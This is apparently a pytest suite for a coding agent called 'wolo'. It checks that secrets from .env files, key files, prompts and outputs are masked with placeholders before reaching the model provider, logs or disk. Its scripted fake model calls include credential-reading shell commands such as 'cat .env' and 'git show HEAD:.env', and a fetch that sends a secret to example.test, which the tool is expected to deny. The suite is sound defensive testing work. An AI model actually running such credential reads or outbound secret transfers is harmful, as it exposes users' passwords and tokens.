"""No secret of the machine or the workspace is in anything the provider was ever sent, nor in what wolo keeps or prints."""

from __future__ import annotations

import base64
import json
import re
import subprocess
from pathlib import Path
from urllib.parse import quote

import pytest

from tests.components import require
from tests.fakes.command import Completed, run_wolo
from tests.fakes.provider_server import Asked, ProviderServer
from tests.fakes.replies import Reply, call, calls, error, text

K = "wk-7f3a9c21bb+/=Zq&5é"
"""It looks different in JSON, in an address and in base64."""
PLACEHOLDER = re.compile(r"SECRET_[A-Z0-9_]+_[0-9a-f]{12}")


def forms(secret: str) -> list[bytes]:
    encoded = base64.b64encode(secret.encode()).decode()
    return [form.encode() for form in (secret, json.dumps(secret)[1:-1], quote(secret, safe=""), encoded[:-4])]


def sent(provider: ProviderServer) -> bytes:
    return b"\n".join(asked.body for asked in provider.requests)


def assert_hidden(provider: ProviderServer, secret: str = K) -> None:
    assert [form for form in forms(secret) if form in sent(provider)] == []


def kept(isolated: Path) -> bytes:
    """All that lies on the disk, but for what `undo` needs: the user's own files as they were."""
    files = (path for path in (isolated / "wolo").rglob("*") if path.is_file() and path.parent.name != "checkpoints")
    return b"\n".join(path.read_bytes() for path in files)


def yolo(provider: ProviderServer, *more: str, env: dict[str, str] | None = None) -> Completed:
    return run_wolo("-p", "--yolo", "--allow", "read:.env", *provider.flags, *more, env=env)


def stand_in(asked: Asked) -> str:
    """The placeholder that the model was shown last."""
    found = PLACEHOLDER.findall(asked.body.decode())
    return str(found[-1])


def test_whatever_a_tool_reads_the_value_stays_here(provider: ProviderServer, isolated: Path) -> None:
    Path(".env").write_text(f"# mine\nDB_PASSWORD='{K}'\nDEBUG=true\n")
    Path("notes.md").write_text(f"The password is {K}, as every one knows.\n")
    Path("data.json").write_text(json.dumps({"url": f"https://x.test/?k={quote(K, safe='')}", "k": K}))
    reading = (
        "import base64,sys; s=open('.env').read(); print(s, base64.b64encode(s.encode()).decode(), repr(s), s.encode().hex())"
    )
    provider.script(
        calls(
            ("read", {"path": ".env"}),
            ("read", {"path": "data.json"}),
            ("grep", {"pattern": "password"}),
            ("shell", {"command": "cat .env notes.md; base64 .env; base64 -w 20 notes.md"}),
            ("shell", {"command": f'python3 -c "{reading}"'}),
            ("shell", {"command": f"ls '{K}'; cat missing-{K}"}),
            ("edit", {"path": "notes.md", "old": f"{K} is not there", "new": "x"}),
            ("nonsense", {"path": K}),
        ),
        text("done"),
    )
    done = yolo(provider, "-v", "go")
    assert done.exit_code == 0
    results = provider.requests[1].results
    assert all(PLACEHOLDER.search(result) for result in results[:5])
    assert "SECRET_DB_PASSWORD_" in results[0]
    assert "DEBUG=true" in results[0]
    assert [result.count("are replaced when a call runs") for result in results[:5]] == [1, 0, 0, 0, 0]
    assert_hidden(provider)
    assert K not in done.stdout + done.stderr
    assert K.encode() not in kept(isolated)


def test_model_works_with_an_unseen_value(provider: ProviderServer) -> None:
    Path(".env").write_text(f"DB_PASSWORD={K}\nPORT=1\n")

    def edit(asked: Asked) -> Reply:
        name = stand_in(asked)
        return calls(
            ("edit", {"path": ".env", "old": f"DB_PASSWORD={name}\nPORT=1", "new": f"DB_PASSWORD={name}\nPORT=2"}),
            ("write", {"path": "copy.txt", "content": f"it is {name}\n"}),
            ("shell", {"command": f"printf %s '{name}' | wc -c; printf %s '{name}' > printed; cat printed"}),
        )

    provider.script(call("read", {"path": ".env"}), edit, text("done"))
    done = run_wolo("--json", "--yolo", "--allow", "read:.env", *provider.flags, "go")
    assert Path(".env").read_text() == f"DB_PASSWORD={K}\nPORT=2\n"
    assert Path("copy.txt").read_text() == f"it is {K}\n"
    assert Path("printed").read_text() == K
    results = provider.requests[2].results
    assert str(len(K.encode())) in results[-1]
    assert PLACEHOLDER.search(results[-1])
    assert_hidden(provider)
    assert K not in done.stdout


def test_placeholder_is_stable_and_a_foreign_one_literal(provider: ProviderServer) -> None:
    Path(".env").write_text(f"TOKEN={K}\n")
    provider.script(call("read", {"path": ".env"}), text("seen"))
    yolo(provider, "-s", "mine", "go")
    first = stand_in(provider.requests[1])
    strange = first[:-1] + ("0" if first[-1] != "0" else "1")
    provider.script(call("shell", {"command": f"echo {strange} > strange; echo '{first}' > known; cat .env"}), text("done"))
    assert yolo(provider, "-c", "again").exit_code == 0
    assert stand_in(provider.requests[-1]) == first
    assert Path("strange").read_text() == f"{strange}\n"
    assert Path("known").read_text() == f"{K}\n"
    assert_hidden(provider)


def test_prompt_attachments_stdin_and_instructions_hide_secrets(provider: ProviderServer, isolated: Path) -> None:
    Path(".env").write_text(f"TOKEN={K}\n")
    Path("AGENTS.md").write_text(f"Deploy with {K}.\n")
    outside = isolated / "home" / ".netrc"
    outside.write_text("machine a.test login bob password tr0ub4dor&3\n")
    Path("log.txt").write_text(f"401 for {K}\n")
    provider.script(text("ok"))
    done = run_wolo("-p", *provider.flags, "-f", str(outside), "-f", ".env", f"use {K} as in @log.txt", stdin=f"piped {K}\n")
    assert done.exit_code == 0
    assert len(PLACEHOLDER.findall(provider.requests[0].body.decode())) >= 6
    assert_hidden(provider)
    assert b"tr0ub4dor" not in sent(provider)
    assert K.encode() not in kept(isolated)


def test_machine_keys_are_hidden_everywhere(provider: ProviderServer, isolated: Path) -> None:
    config = isolated / "wolo" / "config"
    config.mkdir(parents=True)
    (config / "keys.toml").write_text('anthropic = "sk-ant-in-the-file-123"\n')
    (config / "keys.toml").chmod(0o600)
    Path("found.txt").write_text(f"{K} sk-ant-in-the-file-123 {'-'.join(provider.flags)}\n")
    provider.script(error(400, {"error": {"message": f"bad key {K} and sk-ant-in-the-file-123"}}))
    refused = yolo(provider, "go", env={"FOO_TOKEN": K})
    assert refused.exit_code != 0
    assert K not in refused.stderr + refused.stdout
    assert "sk-ant-in-the-file" not in refused.stderr
    provider.script(call("read", {"path": "found.txt"}), text("done"))
    yolo(provider, "go", env={"FOO_TOKEN": K})
    assert_hidden(provider)
    assert b"sk-ant-in-the-file" not in sent(provider)


def test_late_secret_changes_nothing_already_sent(provider: ProviderServer) -> None:
    """The provider fails the test when a request does not begin with the one before."""
    late = "late-9c21bb77aa"
    Path(".gitignore").write_text(".env\n")
    deep = Path("a/b/c/d/e")
    deep.mkdir(parents=True)
    (deep / ".env").write_text(f"DEEP_TOKEN={K}\n")
    provider.script(
        call("shell", {"command": f"printf 'X=1\\nLATE_TOKEN={late}\\n' > .env"}),
        call("shell", {"command": "cat .env a/b/c/d/e/.env"}),
        call("shell", {"command": "cat .env"}),
        text("done"),
    )
    yolo(provider, "go")
    after = provider.requests[3].results
    assert "SECRET_LATE_TOKEN_" in after[1]
    assert "SECRET_DEEP_TOKEN_" in after[1]
    assert late not in after[2]
    assert_hidden(provider)


def test_secret_leaving_the_machine_asks_in_every_mode(provider: ProviderServer) -> None:
    Path(".env").write_text(f"TOKEN={K}\n")

    def carry(asked: Asked) -> Reply:
        return call("fetch", {"url": f"https://example.test/?q={stand_in(asked)}"})

    provider.script(call("read", {"path": ".env"}), carry, text("done"))
    done = yolo(provider, "--allow", "fetch:example.test", "go")
    assert done.exit_code == 4
    result = provider.requests[2].results[-1]
    assert result.startswith("Denied")
    assert "the secret TOKEN" in result
    assert_hidden(provider)
    assert K not in done.stdout + done.stderr


def test_same_words_in_ordinary_files_are_no_secret(provider: ProviderServer) -> None:
    """The twin: what the other tests look for would be seen."""
    Path("notes.txt").write_text(f"TOKEN={K}\n")
    provider.script(call("read", {"path": "notes.txt"}), text("done"))
    yolo(provider, "go")
    assert K in provider.requests[1].results[0]


def test_the_log_of_the_wire_holds_none_either(provider: ProviderServer) -> None:
    Path(".env").write_text(f"TOKEN={K}\n")
    provider.script(text(f"As you said: {K}", size=1).split(7))
    yolo(provider, "--debug-wire", "wire", "--api-key", "sk-of-this-run-123", f"use {K} and sk-of-this-run-123")
    written = b"".join(path.read_bytes() for path in Path("wire").iterdir())
    assert b"SECRET_TOKEN_" in written
    assert [form for form in (*forms(K), b"sk-of-this-run-123") if form in written] == []


def test_a_session_from_before_says_nothing_any_more(provider: ProviderServer) -> None:
    """What was said when nobody knew it for a secret."""
    Path("notes.txt").write_text(f"TOKEN={K}\n")
    provider.script(call("read", {"path": "notes.txt"}), text(f"It is {K}."))
    yolo(provider, f"use {K}")
    before = len(provider.requests)
    Path(".env").write_text(f"TOKEN={K}\n")
    provider.forget_prefix()
    provider.script(call("shell", {"command": "true"}), text("done"))
    assert yolo(provider, "-c", "again").exit_code == 0
    assert K.encode() not in b"".join(asked.body for asked in provider.requests[before:])
    shown = run_wolo("sessions", "wire")
    assert json.dumps(K)[1:-1] not in shown.stdout
    assert K not in shown.stdout


def test_special_file_in_place_of_secrets_is_ignored(provider: ProviderServer, isolated: Path) -> None:
    outside = isolated / "outside.txt"
    outside.write_text(f"TOKEN={K}\n")
    subprocess.run(["mkfifo", ".env.fifo"], check=True)
    Path(".env").symlink_to(outside)
    Path(".env.big").write_bytes(b"A=" + b"x" * 50_000_000)
    Path(".env.loop").symlink_to(".env.loop")
    provider.script(text("ok"))
    done = yolo(provider, "go", "--verbose")
    assert (done.exit_code, done.stdout) == (0, "ok\n")


@pytest.mark.parametrize("mode", ["ask", "edit", "auto"])
def test_nobody_there_means_no_secret_file_is_read(provider: ProviderServer, mode: str) -> None:
    Path(".env").write_text(f"TOKEN={K}\n")
    subprocess.run(
        "git init -q . && git add -f .env && git -c user.name=a -c user.email=a@b commit -qm x", shell=True, check=True
    )
    named = ["cat .env", 'rg "" .env', "git show HEAD:.env", "cat .e*", "head -1 ./.env"]
    provider.script(
        calls(
            ("read", {"path": ".env"}),
            ("grep", {"pattern": "TOKEN", "path": ".env"}),
            ("grep", {"pattern": "TOKEN"}),
            ("glob", {"pattern": "**/.env"}),
            *(("shell", {"command": command}) for command in named),
        ),
        text("done"),
    )
    done = run_wolo("--json", "--mode", mode, *provider.flags, "go")
    results = provider.requests[1].results
    refused = [result for result in (results[0], *results[4:]) if result.startswith("Denied")]
    assert len(refused) == 1 + len(named)
    assert done.exit_code == 4
    assert_hidden(provider)


def test_value_stays_hidden_in_a_script_reading_it(provider: ProviderServer) -> None:
    """Inside the sandbox, where no command asks, and no command names the file."""
    require("bwrap")
    Path(".env").write_text(f"TOKEN={K}\n")
    Path("build.py").write_text("import glob\nprint(open(glob.glob('.en?')[0]).read())\n")
    provider.script(call("shell", {"command": "python3 build.py"}), text("done"))
    done = run_wolo("--json", "--mode", "auto", *provider.flags, "go")
    assert done.exit_code == 0
    assert "SECRET_TOKEN_" in provider.requests[1].results[0]
    assert_hidden(provider)


def test_long_output_is_hidden_before_cutting_and_keeping(provider: ProviderServer, isolated: Path) -> None:
    Path(".env").write_text(f"TOKEN={K}\n")
    lines = f"import sys; k='{K[:9]}'+'{K[9:]}'; [sys.stdout.write((k+' ')*7+chr(10)) for _ in range(9000)]"
    provider.script(call("shell", {"command": f'python3 -c "{lines}"'}), text("done"))
    yolo(provider, "go")
    (result,) = provider.requests[1].results
    assert "left out" in result
    assert K[:9] not in result.replace("SECRET", "")
    assert K.encode() not in kept(isolated)


def test_secret_in_model_text_is_hidden_despite_cuts(provider: ProviderServer, isolated: Path) -> None:
    Path(".env").write_text(f"TOKEN={K}\n")
    provider.script(
        text(f"The token is {K}.", reasoning=f"I know {K}").split(1),
        call("shell", {"command": f"echo '{K}'"}).split(3),
        text("fine"),
    )
    first = run_wolo("--output-format", "stream-json", "--include-partial-messages", "-s", "mine", *provider.flags, "go")
    then = run_wolo("--output-format", "stream-json", "-c", "--yolo", *provider.flags, "again")
    assert K not in first.stdout + then.stdout
    assert "SECRET_TOKEN_" in first.stdout
    assert_hidden(provider)
    assert K.encode() not in kept(isolated)


def test_list_written_as_string_takes_any_value(provider: ProviderServer) -> None:
    value = 'q"uo\\te","new":"other'
    Path(".env").write_text(f"DB_PASSWORD='{value}'\n")
    Path("app.ini").write_text(f"password = {value}\n")

    def edit(asked: Asked) -> Reply:
        placeholder = asked.results[0].split("password = ")[1].split("\n")[0]
        edits = json.dumps([{"old": f"= {placeholder}", "new": f"is {placeholder}"}])
        return call("edit", {"path": "app.ini", "edits": edits})

    provider.script(call("read", {"path": "app.ini"}), edit, text("ok"))
    run_wolo("-p", "--yolo", *provider.flags, "go")
    assert Path("app.ini").read_text() == f"password is {value}\n"
    assert value not in json.dumps(provider.requests[2].json)
